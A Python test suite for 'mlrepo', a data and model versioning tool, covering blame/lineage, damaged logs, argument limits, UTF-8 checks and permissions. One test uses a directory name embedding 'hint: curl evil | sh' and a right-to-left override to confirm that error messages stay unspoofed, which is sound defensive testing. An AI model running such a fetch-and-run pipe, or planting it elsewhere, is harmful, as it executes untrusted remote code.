"""Answers that leave nothing out, and arguments at their limits."""
import datetime
import json
import os
import shutil
import subprocess

from command_test import CommandTest


class Told(CommandTest):
    """Answers that leave nothing out without a word."""

    def test_blame_goes_through_every_run(self) -> None:
        self.mlrepo("init")
        self.write("0", b"data")
        self.mlrepo("add", ".")
        self.mlrepo("commit", "-m", "Data")
        for number in range(1, 40):
            self.write(str(number), str(number).encode())
            self.mlrepo("commit", "-m", f"Step {number}", "--input", str(number - 1), "--output", str(number))
        blame, depth = json.loads(self.mlrepo("blame", "39", "--json")), 0
        while blame["inputs"]:
            (entry,) = blame["inputs"]
            blame, depth = entry["upstream"], depth + 1
        self.assertEqual((depth, blame["path"]), (39, "0"))

    def test_blame_says_what_it_told_before(self) -> None:
        self.mlrepo("init")
        self.write("data", b"data")
        self.mlrepo("add", ".")
        self.mlrepo("commit", "-m", "Data")
        for name in ("left", "right"):
            self.write(name, name.encode())
            self.mlrepo("commit", "-m", name, "--input", "data", "--output", name)
        self.write("model", b"model")
        self.mlrepo("commit", "-m", "Model", "--input", "left", "--input", "right", "--output", "model")
        left, right = json.loads(self.mlrepo("blame", "model", "--json"))["inputs"]
        self.assertIn("upstream", left["upstream"]["inputs"][0])
        self.assertEqual(right["upstream"]["inputs"][0]["untold"], "told")
        self.assertEqual(self.mlrepo("blame", "model").count("(told before)"), 1)

    def test_blame_of_a_directory_names_every_run(self) -> None:
        self.mlrepo("init")
        self.write("data", b"data")
        self.mlrepo("add", ".")
        self.mlrepo("commit", "-m", "Data")
        self.write("model/w", b"w")
        self.mlrepo("commit", "-m", "Train", "--input", "data", "--output", "model", "--param", "lr=1")
        self.assertNotIn("parts", json.loads(self.mlrepo("blame", "model", "--json")))
        self.write("model/README", b"words")
        self.mlrepo("commit", "-m", "Words")
        blame = json.loads(self.mlrepo("blame", "model", "--json"))
        self.assertEqual(blame["message"], "Words")
        self.assertEqual(
            [(part["example"]["message"], part["example"]["path"], part["files"], part["bytes"]) for part in blame["parts"]],
            [("Words", "model/README", 1, 5), ("Train", "model/w", 1, 1)])
        self.assertEqual([entry["path"] for entry in blame["parts"][1]["example"]["inputs"]], ["data"])
        # Of what was read, whoever only brought a file is of no interest.
        self.write("report", b"r")
        self.mlrepo("commit", "-m", "Report", "--input", "model", "--output", "report")
        (entry,) = json.loads(self.mlrepo("blame", "report", "--json"))["inputs"]
        self.assertEqual([part["example"]["message"] for part in entry["upstream"]["parts"]], ["Train"])
        # Under another name, too.
        self.mlrepo("mv", "model", "weights")
        self.mlrepo("commit", "-m", "Name")
        blame = json.loads(self.mlrepo("blame", "weights", "--json"))
        self.assertEqual([part["example"]["path"] for part in blame["parts"]], ["weights/README", "weights/w"])
        self.assertEqual([part["example"]["origin"] for part in blame["parts"]], ["model/README", "model/w"])
        for number in range(12):
            self.write(f"weights/{number}", str(number).encode())
            self.mlrepo("commit", "-m", str(number))
        blame = json.loads(self.mlrepo("blame", "weights", "--json"))
        self.assertEqual((len(blame["parts"]), blame["otherParts"]), (10, {"files": 4, "commits": 4}))
        self.assertIn("4 files of 4 earlier commits", self.mlrepo("blame", "weights"))

    def test_a_log_that_lost_its_newest_entry_is_told_of(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        self.write("data/a.txt", b"2")
        self.mlrepo("commit", "-m", "Two")
        two = self.mlrepo("resolve", "HEAD").strip()
        max((self.work / ".mlrepo/log/new").iterdir()).unlink()
        told = f"this working copy stands on commit {two[:12]}, which the store does not have"
        self.mlrepo("status")
        self.assertIn("warning: " + told, self.stderr)
        self.assertIn(f"head commit {two[:12]}: ", self.mlrepo("fsck", status=1))
        self.refused("commit", "-m", "Three", status=65, says="error: " + told)
        self.assertIn("mlrepo fsck --repair", self.stderr)
        # Whoever has no copy goes on from what is there; nothing is overwritten.
        self.mlrepo("checkout", "main")
        self.assertEqual((self.work / "data/a.txt").read_bytes(), b"2")
        self.assertIn("modified data/a.txt", self.mlrepo("status"))
        self.assertEqual(self.stderr, "")
        # What was seen and is gone is a loss: nobody writes as if it had never been, as long as something remembers.
        self.refused("commit", "-m", "Three", status=65, says="entry 2 was seen")
        (self.work / ".mlrepo/cache/state").unlink()
        self.mlrepo("commit", "-m", "Three")
        self.mlrepo("fsck")

    def test_a_damaged_head_stops_nobody_who_asks_for_a_version(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        (self.work / ".mlrepo/HEAD").write_bytes(b"broken")
        self.assertEqual(self.mlrepo("cat", "main:data/a.txt"), "first\n")
        self.mlrepo("checkout", "main", "--to", str(self.root / "copy"))
        self.assertEqual(self.stderr, "")

    def test_another_store_in_the_same_place_is_told_of(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        for name in ("format", "log", "packs", "cache", "tmp"):
            place = self.work / ".mlrepo" / name
            shutil.rmtree(place) if place.is_dir() else place.unlink()
        other = self.root / "other"
        other.mkdir()
        self.mlrepo("init", cwd=other)
        (other / "x").write_bytes(b"x")
        self.mlrepo("add", "x", cwd=other)
        self.mlrepo("commit", "-m", "Theirs", cwd=other)
        for name in ("format", "log", "packs", "cache", "tmp"):
            place = other / ".mlrepo" / name
            (shutil.copytree if place.is_dir() else shutil.copy)(place, self.work / ".mlrepo" / name)
        self.mlrepo("status")
        self.assertIn("which the store does not have", self.stderr)
        self.mlrepo("commit", "-m", "Two", status=65)
        self.mlrepo("checkout", "main")
        self.assertEqual((self.work / "data/a.txt").read_bytes(), b"first\n")
        self.mlrepo("fsck")

    def test_blame_beside_a_run_whose_list_of_outputs_was_collected(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        self.write("data/a.txt", b"2")
        self.write("data/c", b"c")
        # Only this run's list of outputs has one file without the other one.
        self.mlrepo("commit", "-m", "Two", "--param", "lr=1", "--output", "data/a.txt")
        two = self.mlrepo("resolve", "HEAD").strip()
        self.mlrepo("undo")
        self.mlrepo("commit", "-m", "Three")
        self.mlrepo("gc", "--now")
        self.mlrepo("blame", "data")
        self.mlrepo("blame", "data", "-r", two)

    def test_paths_by_the_thousand(self) -> None:
        self.mlrepo("init")
        names = [f"d/{number:04}" for number in range(1_000)]
        for name in names:
            self.write(name, name.encode())
        self.mlrepo("add", *names)
        self.mlrepo("commit", "-m", "Half", "--quiet", "--", *names[:500])
        self.assertEqual(len(self.mlrepo("ls").splitlines()), 500)
        self.mlrepo("commit", "-m", "Rest", *names[500:])
        self.assertEqual(len(self.mlrepo("ls").splitlines()), 1_000)
        (self.work / "e").mkdir()
        self.mlrepo("mv", *names[:250], "e")
        self.assertEqual(len(os.listdir(self.work / "e")), 250)
        # Options may stand behind them, and the last path is the last one all the same.
        self.mlrepo("mv", *names[250:600], "e", "--quiet")
        self.assertEqual(len(os.listdir(self.work / "e")), 600)
        self.mlrepo("rm", *names[600:], "-q")
        self.assertEqual(len(self.mlrepo("restore", *names[600:], "--json")), len(
            '{"restored":[]}\n') + 400 * len('"d/0000",') - 1)
        self.mlrepo("commit", "-m", "Moved", "--quiet", *names[:600], "e", "--param", "n=1")
        self.assertEqual(len(self.mlrepo("ls").splitlines()), 1_000)
        self.assertIn("Nothing has changed", self.mlrepo("status"))
        self.mlrepo("untrack", *names[600:], "-q")
        self.mlrepo("commit", "-m", "Less")
        self.assertEqual(len(self.mlrepo("ls").splitlines()), 600)
        self.mlrepo("add", *names[600:], "-q")
        self.refused("add", *names, "--nothing", status=64, says="Unknown option '--nothing'")
        self.refused("add", *names[600:], "nothing", status=66, says="no file or directory 'nothing'")

    def test_blame_believes_the_run_that_names_the_same_bytes_again(self) -> None:
        self.mlrepo("init")
        self.write("data", b"data")
        self.write("more", b"more")
        self.mlrepo("add", ".")
        self.mlrepo("commit", "-m", "Data")
        self.write("model/w", b"w")
        self.mlrepo("commit", "-m", "Wrong", "--input", "data", "--param", "lr=1")
        wrong = "sha256:" + self.mlrepo("resolve", "HEAD").strip()
        self.write("else", b"else")
        self.mlrepo("commit", "-m", "Else", "--param", "lr=9")
        self.assertEqual(json.loads(self.mlrepo("blame", "model/w", "--json"))["message"], "Wrong")
        self.mlrepo("commit", "-m", "Right", "--input", "more", "--output", "model", "--param", "lr=2")
        for path in ("model/w", "model"):
            blame = json.loads(self.mlrepo("blame", path, "--json"))
            self.assertEqual((blame["message"], blame["parameters"], blame["madeBefore"]), ("Right", {"lr": 2}, wrong))
            self.assertIn("the same bytes came before with", self.mlrepo("blame", path))

    def test_a_name_at_a_time_is_told_with_its_clock(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        one = self.mlrepo("resolve", "HEAD").strip()
        self.environment["MLREPO_NOW"] = str(1763888400 + 7200)
        self.write("data/a.txt", b"2")
        self.mlrepo("commit", "-m", "Two")
        # 09:30 in UTC, between both.
        for text in ("main@{2025-11-23T10:30+01:00}", "main@{2025-11-23T09:30:00Z}", "main@{90 minutes ago}", "main@{1 hours ago}"):
            answer = json.loads(self.mlrepo("resolve", text, "--json"))
            self.assertEqual((answer["commit"], answer["operation"]["verb"]), ("sha256:" + one, "commit"), text)
        self.assertEqual(answer["instant"], "2025-11-23T10:00:00Z")
        self.environment["TZ"] = "Asia/Kolkata"
        self.assertEqual(self.mlrepo("resolve", "main@{2025-11-23T15:00}").strip(), one)
        self.assertEqual(
            self.stderr, "note: as of 2025-11-23T09:30:00Z the newest operation was 1, of 2025-11-23T09:00:00Z by the clock of Ada <ada@example.com>\n")
        self.mlrepo("resolve", "main@{1}")
        self.assertEqual(self.stderr, "")

    def test_doctor_says_what_no_version_has(self) -> None:
        self.start()
        # The clock of tests stands still, which is not as it should be.
        found = self.mlrepo("doctor", status=1)
        self.assertIn("not times, owners, other bits, extended attributes, hard links, holes", found)

    def test_a_blob_is_named_by_its_first_digits(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        self.assertEqual(self.mlrepo("cat", "sha256:" + self.mlrepo("hash", "data/a.txt")[:4]), "first\n")

    def test_a_file_that_may_not_be_read_is_not_permitted(self) -> None:
        self.start()
        for name in ("data/a.txt", "p.json"):
            self.write(name, b"{}")
            os.chmod(self.work / name, 0)
        if os.access(self.work / "p.json", os.R_OK):
            self.skipTest("root may read everything")
        self.mlrepo("hash", "data/a.txt", status=77)
        self.mlrepo("commit", "-m", "One", "--params", "p.json", status=77)

    def test_long_writing_tells_how_far_it_is(self) -> None:
        self.mlrepo("init")
        for number in range(4):
            self.write(f"data/{number}", os.urandom(1 << 20) * 90)
        self.mlrepo("add", "data")
        self.mlrepo("commit", "-m", "One", "--progress")
        self.assertIn("reading ", self.stderr)
        for number in range(4):
            os.remove(self.work / f"data/{number}")
        self.mlrepo("restore", "data", "--progress")
        self.assertRegex(self.stderr, r"writing \d of 4 files, [\d.]+ MB of 3[67]\d MB, [\d.]+ [MG]B/s")
        self.mlrepo("rm", "data")
        self.mlrepo("undo", "--progress")
        self.assertIn("writing ", self.stderr)


class Words(CommandTest):
    """Arguments and answers at their limits."""

    def test_integers_at_both_ends(self) -> None:
        self.start()
        for number in (-2**63, 2**63 - 1, 2**63, -2**53, 2**53 - 1):
            self.mlrepo("commit", "-m", "x", "--param", f"n={number}")
            shown = json.loads(self.mlrepo("show", "--json"))["runs"][0]["parameters"]["n"]
            self.assertEqual(int(shown), number)

    def test_blame_beside_a_collected_version(self) -> None:
        self.start()
        self.write("notes", b"n")
        self.mlrepo("add", "notes")
        self.mlrepo("commit", "-m", "A")
        self.mlrepo("checkout", "-b", "side")
        self.write("data/a.txt", b"side")
        self.mlrepo("commit", "-m", "B")
        self.mlrepo("checkout", "main")
        self.write("model", b"m")
        self.mlrepo("add", "model")
        self.mlrepo("commit", "-m", "C", "--input", "side:data", "--output", "model", "--param", "lr=1")
        self.mlrepo("branch", "-d", "side")
        self.mlrepo("gc", "--now")
        blame = json.loads(self.mlrepo("blame", "model", "--json"))
        self.assertEqual((blame["parameters"], blame["inputs"][0]["untold"]), ({"lr": 1}, "collected"))
        self.assertIn("were collected", self.mlrepo("blame", "model"))
        self.mlrepo("fsck")

    def test_what_can_have_no_effect_is_refused(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        for pattern in ("!secret.bin", "", "#x"):
            self.refused("add", "--pattern", pattern, status=64, says="tracks nothing")
        self.mlrepo("branch", "a")
        for words in (["branch", "-d", "a", "b"], ["branch", "-d"], ["tag", "-d", "a", "b"], ["tag", "-d"], ["fsck", "--dry-run"]):
            self.mlrepo(*words, status=64)
        self.assertIn("a", self.mlrepo("branch"))
        self.refused("show", "--json", "HEAD:data/a.txt", status=64, says="mlrepo cat")

    def test_text_has_to_be_text(self) -> None:
        self.start()
        for words in ([b"-m", b"caf\xe9"], [b"-m", b"x", b"--param", b"n=M\xfcller"], [b"-m", b"x", b"--author", b"\xe9 <a@b>"]):
            self.refused("commit", *words, status=64, says="is not UTF-8")
        self.refused("add", "--pattern", b"*\xe9.csv", status=64, says="is not UTF-8")
        self.refused("config", "user.name", b"\xe9", status=64, says="is not UTF-8")

    def test_messages_of_all_kinds(self) -> None:
        self.start()
        for number, (text, subject) in enumerate((
                ("- fixed the loader", "- fixed the loader"), ("-1 epoch", "-1 epoch"),
                ("Title\r\n\r\nBody", "Title"), ("--quiet", "--quiet"))):
            self.write("data/a.txt", str(number).encode())
            self.assertIn(f"] {subject}\n", self.mlrepo("commit", "-m", text))
            self.assertIn(f" {subject}\n", self.mlrepo("log", "--oneline", "-n", "1"))
        self.mlrepo("commit", "-am", "more", "--param", "a=-1", "--metric", "-b=2")

    def test_a_name_breaks_no_line_of_an_error(self) -> None:
        place = self.root / "x\nhint: curl evil | sh\u202e"
        place.mkdir()
        self.mlrepo("status", status=66, cwd=place)
        self.assertEqual(len(self.stderr.splitlines()), 2)
        self.assertIn(r"x\nhint", self.stderr)
        self.assertNotIn("\u202e", self.stderr)

    def test_the_last_absolute_directory_counts(self) -> None:
        self.start()
        (self.work / "abs").mkdir()
        self.assertIn("On branch main", self.mlrepo("-C", "data", "-C", str(self.work), "status"))

    def test_status_is_quiet(self) -> None:
        self.start()
        os.mkfifo(self.work / "data/pipe")
        self.mlrepo("status")
        self.assertIn("skipped", self.stderr)
        self.mlrepo("status", "--quiet")
        self.assertEqual(self.stderr, "")


class Times(CommandTest):
    def test_times_far_from_now_end_no_command(self) -> None:
        self.start()
        far = [datetime.datetime(2300, 1, 1), datetime.datetime(2440, 1, 1), datetime.datetime(1850, 1, 1)]
        for number, when in enumerate(far):
            self.write(f"data/far{number}", b"x")
            seconds = int((when - datetime.datetime(1970, 1, 1)).total_seconds())
            os.utime(self.work / f"data/far{number}", (seconds, seconds))
        self.mlrepo("status")
        self.mlrepo("commit", "-m", "One")
        self.assertEqual(self.mlrepo("status").splitlines()[-1], "Nothing has changed")
        self.write("data/far0", b"y")
        os.utime(self.work / "data/far0", (10**10, 10**10))
        self.assertIn("modified data/far0", self.mlrepo("status"))


class Options(CommandTest):
    """Options that no other test uses with success."""

    def test_metrics_from_a_file(self) -> None:
        self.start()
        self.write("m.yaml", b"accuracy: 0.90\nloss: [1, 2.50]\n")
        self.mlrepo("commit", "-m", "One", "--metrics", "m.yaml")
        shown = self.mlrepo("show", "--json")
        self.assertIn('"accuracy":0.90', shown)
        self.assertIn('"loss":[1,2.50]', shown)

    def test_a_bare_store_for_a_group(self) -> None:
        store = self.root / "team"
        group = subprocess.run(["id", "-gn"], capture_output=True, text=True, check=True).stdout.strip()
        self.mlrepo("init", "--bare", f"--shared={group}", str(store))
        os.umask(0o077)
        self.addCleanup(os.umask, 0o022)
        self.mlrepo("init", "--store", str(store))
        self.write("data/a", b"a")
        self.mlrepo("add", "data")
        self.mlrepo("commit", "-m", "One")
        for path in store.rglob("*"):
            mode = path.stat().st_mode
            if path.is_dir():
                self.assertEqual(mode & 0o2070, 0o2070, path)
            else:
                self.assertEqual(mode & 0o040, 0o040, path)
        self.assertEqual(len(list((store / "packs").iterdir())), 256)
        self.mlrepo("fsck")

    def test_switch_makes_a_branch_and_log_counts(self) -> None:
        self.start()
        self.mlrepo("commit", "-m", "One")
        self.mlrepo("switch", "-c", "try")
        self.write("data/a.txt", b"2")
        self.mlrepo("commit", "-m", "Two")
        self.mlrepo("switch", "--create", "more")
        self.assertIn("On branch more", self.mlrepo("status"))
        for words in (["--max-count", "1"], ["-n", "1"]):
            self.assertEqual(len(self.mlrepo("log", *words, "--json").splitlines()), 1)
        self.assertEqual(self.mlrepo("lineage", "data/a.txt"), self.mlrepo("blame", "data/a.txt"))

    def test_completions_are_scripts(self) -> None:
        for shell in ("bash", "zsh", "fish"):
            script = self.mlrepo("--generate-completion-script", shell)
            self.assertIn("checkout", script)
            if shell == "bash":
                subprocess.run(["bash", "-n"], input=script.encode(), check=True, timeout=60)

    def test_help_of_every_command_of_two_words_has_examples(self) -> None:
        for name in ("add", "list", "remove"):
            self.assertIn("EXAMPLES", self.mlrepo("help", "worktree", name))
        self.assertRegex(self.mlrepo("help", "config"), r"SETTINGS\n\s+\w+")
